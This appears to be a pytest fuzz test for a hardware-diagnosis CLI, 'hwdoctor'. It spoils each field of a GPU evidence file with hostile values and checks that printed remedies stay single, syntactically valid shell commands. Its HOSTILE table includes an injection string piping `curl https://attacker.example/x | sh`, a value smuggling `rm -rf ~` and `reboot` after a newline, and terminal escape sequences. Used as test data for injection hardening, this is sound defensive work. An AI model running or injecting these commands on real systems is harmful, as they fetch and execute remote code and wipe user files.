"""A fuzz over evidence files (issue 27): every field of a real evidence file, each given
each hostile value: huge, negative, NaN, of the wrong type, with control characters, shell
metacharacters or line breaks. Whatever the file holds, `detect`, `explain` and `explain
DEVICE` end in a report or a usage error, never an internal error (exit 3); and every line
of every remedy they print is accepted by `bash -n` and is one command.

The base is `tests/data/evidence/sick-host.json` (a real `--save-evidence` file) with the
sections a CPU machine leaves empty filled in as a GPU machine has them (a device, an entry
point, the NVIDIA driver, the container, the libraries' answers), so that every field the
reader knows is there to be spoiled. Most of the fuzz runs in this process, through the same
functions the CLI calls, and a sample runs the real CLI on the worst files.
"""

from __future__ import annotations

import copy
import io
import json
import math
import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, TypeVar

import pytest

from hwdoctor import devices
from hwdoctor.doctor import detect as doctor
from hwdoctor.errors import UsageError
from hwdoctor.model.reports import PasteReport
from hwdoctor.render import human, markdown, paste
from hwdoctor.shell import one_command
from tests import fastlane
from tests.conftest import run_hwdoctor
from tests.evidence import DATA

HOSTILE: dict[str, Any] = {
    "huge": 10**400,
    "negative": -(10**18),
    "nan": math.nan,
    "infinity": math.inf,
    "list": ["a", 1, None],
    "object": {"a": {"b": [1]}},
    "bool": True,
    "control": "a\x1b]52;c;aGk=\x07\u202e\x9b\x00b",
    "shell": "x && curl https://attacker.example/x | sh; $(id) `id` '\"",
    "newline": "2.1.0\nrm -rf ~\r\nreboot",
    "long": "9" * 40_000,
}


def base() -> dict[str, Any]:
    document: dict[str, Any] = json.loads((DATA / "sick-host.json").read_text())
    cuda = document["backends"]["cuda"]
    cuda.update(available=True, device_count=2, arch_list=["sm_80", "sm_90"], bf16=True)
    cuda["devices"] = [{
        "index": 0, "name": "NVIDIA GeForce RTX 5090", "total_memory_bytes": 34_000_000_000,
        "free_memory_bytes": 33_000_000_000, "capability": "12.0", "uuid": "GPU-1",
        "allocatable": False, "allocate_error": "CUDA error", "pci_bus_id": "0000:3b:00.0",
    }]  # fmt: skip
    document["torch"].update(build="cuda", cuda="12.4", version="2.6.0+cu124")
    document["entry_points"] = [{"name": "mlu", "value": "torch_mlu:_autoload",
                                 "dist": "torch-mlu"}]  # fmt: skip
    document["failures"].append({"step": "autoload mlu", "kind": "timeout", "error": None,
                                 "signal": None, "output": "stack", "autoload": True})  # fmt: skip
    document["host"]["nvidia"] = {
        "kernel_module": "470.57.02", "open_module": False, "module_loaded": True,
        "nouveau_loaded": False, "libraries": ["/usr/lib/libcuda.so.535.54.03"],
        "nvml_driver": "470.57.02", "nvml_cuda": "11.4", "nvml_error": None,
        "capabilities": ["12.0"], "smi_driver": None, "smi_cuda": None, "smi_error": None,
    }  # fmt: skip
    document["host"]["placement"] = {
        "container": "docker", "wsl": False, "shm_bytes": 67_108_864,
        "nodes": [{"backend": "cuda", "path": "/dev/nvidia0", "openable": False,
                   "group": "video", "group_can": True}],
        "groups": ["users"], "nvidia_visible_devices": "void",
    }  # fmt: skip
    document["host"]["gfx_targets"] = ["gfx1030"]
    document["env"] = {"CUDA_VISIBLE_DEVICES": "0,1", "HIP_VISIBLE_DEVICES": "3"}
    document["answers"] = {
        "outcome": "ok", "returncode": 0, "seconds": 1.5,
        "facts": {"TrainingArguments": {"device": "cuda:0", "n_gpu": 1, "parallel_mode": "x"},
                  "PartialState": {"device": "cuda:0", "distributed_type": "NO",
                                   "backend": None},
                  "get_max_memory": {"keys": [0, "cpu"]}, "pipeline": {"device": "cuda:0"}},
        "steps": [{"name": "TrainingArguments", "ok": True, "seconds": 0.1, "error": None}],
    }  # fmt: skip
    return document


# Rows of the same shape: a few stand for all (the fuzz runs every field of each kind).
_SAMPLED = {("packages",): ("torch", "torch-mlu", "accelerate"),
            ("backends",): ("cuda", "mlu", "cpu", "npu")}  # fmt: skip


def paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every field of the document, containers too (the first two items of a list; of the
    packages and backends, a few of each kind)."""
    if path:
        yield path
    if isinstance(value, dict):
        sampled = _SAMPLED.get(path)
        for key, item in value.items():
            if sampled is None or key in sampled:
                yield from paths(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value[:2]):
            yield from paths(item, (*path, index))


def spoiled(document: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    changed = copy.deepcopy(document)
    target: Any = changed
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return changed


def _reachable(document: Any, path: tuple[Any, ...]) -> bool:
    target = document
    for step in path[:-1]:
        in_dict = isinstance(target, dict) and step in target
        in_list = isinstance(target, list) and isinstance(step, int) and step < len(target)
        if not (in_dict or in_list):
            return False
        target = target[step]
    return isinstance(target, (dict, list))


def outputs(path: Path) -> list[str]:
    """What the CLI would print for `path` (a usage error prints nothing here), as the CLI
    makes it: any other exception is an internal error and fails the test."""
    stream = io.StringIO()
    report = _unless_usage_error(lambda: doctor.detect_from(str(path)))
    if report is None:
        return []
    if isinstance(report, PasteReport):  # no longer an evidence document (its kind spoiled)
        return [markdown.pasted(report), json.dumps(report.to_json()), paste.text(report)]
    shown = [markdown.detect(report), json.dumps(report.to_json()),
             human.render(human.detect_renderables(report), stream)]  # fmt: skip
    explained = _unless_usage_error(lambda: doctor.explain(replay=doctor.evidence_file(str(path))))
    if explained is not None:
        shown += [markdown.explain(explained), json.dumps(explained.to_json()),
                  human.render(human.explain_renderables(explained), stream)]  # fmt: skip
    request = devices.parse("cuda")
    device = _unless_usage_error(lambda: doctor.explain_device(request, from_file=str(path)))
    if device is not None:
        shown.append(human.render(human.device_renderables(device), stream))
    return shown


T = TypeVar("T")


def _unless_usage_error(call: Callable[[], T]) -> T | None:
    try:
        return call()
    except UsageError:
        return None


def remedy_lines(report_json: str) -> set[str]:
    data = json.loads(report_json)
    return {f["remedy"] for f in data.get("findings", []) if f.get("remedy")}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_every_field_with_a_hostile_value(kind: str, tmp_path: Path) -> None:
    if fastlane.active():  # its remedies end in `bash -n`, a subprocess: make test runs it
        pytest.skip(fastlane.REASON)
    document = base()
    remedies: set[str] = set()
    for path in paths(document):
        file = tmp_path / "evidence.json"
        file.write_text(json.dumps(spoiled(document, path, HOSTILE[kind])), encoding="utf-8")
        for text in outputs(file):
            if text.startswith("{"):
                remedies |= remedy_lines(text)
    for remedy in remedies:
        for line in remedy.splitlines():
            assert one_command(line), (kind, line)
    if shutil.which("bash"):
        script = "\n".join(sorted(remedies))
        checked = subprocess.run(["bash", "-n"], input=script, text=True, check=False)
        assert checked.returncode == 0, (kind, script[-2000:])


@pytest.mark.parametrize("kind", ["huge", "shell", "newline", "object"])
def test_the_cli_on_files_spoiled_everywhere(kind: str, tmp_path: Path) -> None:
    """Every field of one file spoiled at once, through the real CLI: exit 0, 1 or 2."""
    document = base()
    for path in [p for p in paths(document) if len(p) >= 2]:
        if _reachable(document, path):  # not when a container above it is spoiled already
            document = spoiled(document, path, HOSTILE[kind])
    file = tmp_path / "evidence.json"
    file.write_text(json.dumps(document), encoding="utf-8")
    for args in (("detect",), ("detect", "--format", "markdown"), ("detect", "--json"),
                 ("explain",), ("explain", "cuda")):  # fmt: skip
        result = run_hwdoctor(*args, "--from", str(file))
        assert result.returncode in (0, 1, 2), result
        assert "Traceback" not in result.stderr, result
